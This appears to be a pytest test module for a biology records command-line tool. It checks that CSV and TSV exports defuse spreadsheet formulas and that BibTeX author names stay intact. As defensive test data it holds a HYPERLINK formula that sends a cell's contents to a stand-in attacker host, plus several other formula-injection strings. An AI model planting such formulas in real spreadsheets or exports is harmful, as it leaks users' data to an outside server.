"""Output that a hostile record cannot turn against its reader: CSV and TSV cells no
spreadsheet runs as a formula (`--raw-cells` for the exact text, JSON never altered), BibTeX
authors that stay one name each, and file names that cannot forge lines of `validate`'s
text report."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml
from conftest import RECORDS

from secretome_cli.files.emitter import emit
from secretome_cli.output.cells import spreadsheet_cell

LUNG = "lung-cancer-mir-320a-sox4-wnt"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rename_everywhere(root: Path, old: str, new: str) -> None:
    for path in root.rglob("*.yaml"):
        text = path.read_text(encoding="utf-8")
        if old in text:
            path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.fixture(scope="module")
def formula_set(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled records with a formula as a mechanism, a factor named '=MMPs' (in two
    records whose directions differ) and a disease named '+lung cancer'."""
    root = tmp_path_factory.mktemp("formulas") / "set"
    shutil.copytree(RECORDS, root)
    path = root / "evidence" / f"{LUNG}.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["mechanism"] = FORMULA
    path.write_text(emit(data), encoding="utf-8")
    rename_everywhere(root, "name: MMPs", "name: =MMPs")
    rename_everywhere(root, "lung cancer", "+lung cancer")
    return root


@pytest.fixture
def formulas(formula_set: Path, shared_cache: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The formula set, read (never written) by the tests of this module, which share one index
    cache: the first builds its index, the others read it."""
    monkeypatch.setenv("SECRETOME_CACHE_DIR", shared_cache)
    return formula_set


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+3e2", "+3e2"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_the_spreadsheet_rule(text: str, cell: str):
    assert spreadsheet_cell(text) == cell


@pytest.mark.parametrize(
    "args",
    [
        ["search", "SOX4", "--format", "csv"],
        ["search", "SOX4", "--format", "tsv"],
        ["export", "SOX4", "--format", "csv"],
        ["export", "SOX4", "--format", "tsv"],
        ["export", "SOX4", "--format", "csv", "--explode", "factors"],
    ],
)
def test_a_formula_is_written_as_text_unless_raw_cells(secretome, formulas: Path, args):
    safe = secretome(*args, "--records", str(formulas))
    assert safe.code == 0, safe.stderr
    mechanism = cells_of(safe.stdout, args[3])[1][7]
    assert mechanism == "'" + FORMULA
    raw = secretome(*args, "--raw-cells", "--records", str(formulas))
    assert cells_of(raw.stdout, args[3])[1][7] == FORMULA


def cells_of(text: str, fmt: str) -> list[list[str]]:
    import csv
    import io

    if fmt == "csv":
        return list(csv.reader(io.StringIO(text)))
    return [line.split("\t") for line in text.splitlines()]


@pytest.mark.parametrize("command", ["search", "export"])
def test_json_is_never_altered(secretome, formulas: Path, command: str):
    run = secretome(command, "SOX4", "--format", "json", "--records", str(formulas))
    assert [doc["mechanism"] for doc in run.json()] == [FORMULA]


@pytest.mark.slow
def test_vocabulary_conflicts_and_matrix_cells(secretome, formulas: Path):
    where = ["--records", str(formulas)]
    vocab = secretome("vocab", "factors", "--format", "tsv", *where).stdout.splitlines()
    assert any(line.startswith("'=MMPs\tenzyme\t") for line in vocab)
    raw_vocab = secretome("vocab", "factors", "--format", "tsv", "--raw-cells", *where).stdout
    assert any(line.startswith("=MMPs\tenzyme\t") for line in raw_vocab.splitlines())
    conflicts = cells_of(secretome("conflicts", "--format", "tsv", *where).stdout, "tsv")
    assert {row[1] for row in conflicts if row[0] == "factor" and "MMPs" in row[1]} == {"'=MMPs"}
    raw = secretome("conflicts", "--format", "tsv", "--raw-cells", *where).stdout
    assert {row[1] for row in cells_of(raw, "tsv") if "MMPs" in row[1]} == {"=MMPs"}
    matrix = cells_of(secretome("matrix", "--format", "csv", *where).stdout, "csv")
    assert "'+lung cancer" in {row[0] for row in matrix}
    raw_matrix = secretome("matrix", "--format", "csv", "--raw-cells", *where).stdout
    assert "+lung cancer" in {row[0] for row in cells_of(raw_matrix, "csv")}
    listed = json.loads(secretome("vocab", "factors", "--format", "json", *where).stdout)
    assert "=MMPs" in {row["name"] for row in listed}


# --- BibTeX authors ------------------------------------------------------------------------


@pytest.mark.slow
def test_an_and_inside_an_author_stays_one_author(secretome, tmp_path: Path):
    """BibTeX splits the author field at every 'and' between spaces, in any case: one inside
    a name is braced, so each author is one name."""
    import pybtex.database

    root = tmp_path / "set"
    shutil.copytree(RECORDS, root)
    bibliography = root / "bibliography.yaml"
    data = yaml.safe_load(bibliography.read_text(encoding="utf-8"))
    first = data["references"][0]
    given = [
        "Smith and Jones, H.",
        "Doe AND Roe, A.",
        "Research Group and Friends",
        *first["authors"],
    ]
    first["authors"] = given
    bibliography.write_text(emit(data), encoding="utf-8")
    run = secretome("cite", "--format", "bibtex", "--records", str(root))
    assert run.code == 0, run.stderr
    assert "author = {Smith {and} Jones, H. and Doe {AND} Roe, A. and {Research" in run.stdout
    entries = pybtex.database.parse_string(run.stdout, "bibtex").entries
    people = entries[first["key"]].persons["author"]
    assert len(people) == len(given)
    assert [str(p) for p in people[:2]] == ["Smith {and} Jones, H.", "Doe {AND} Roe, A."]
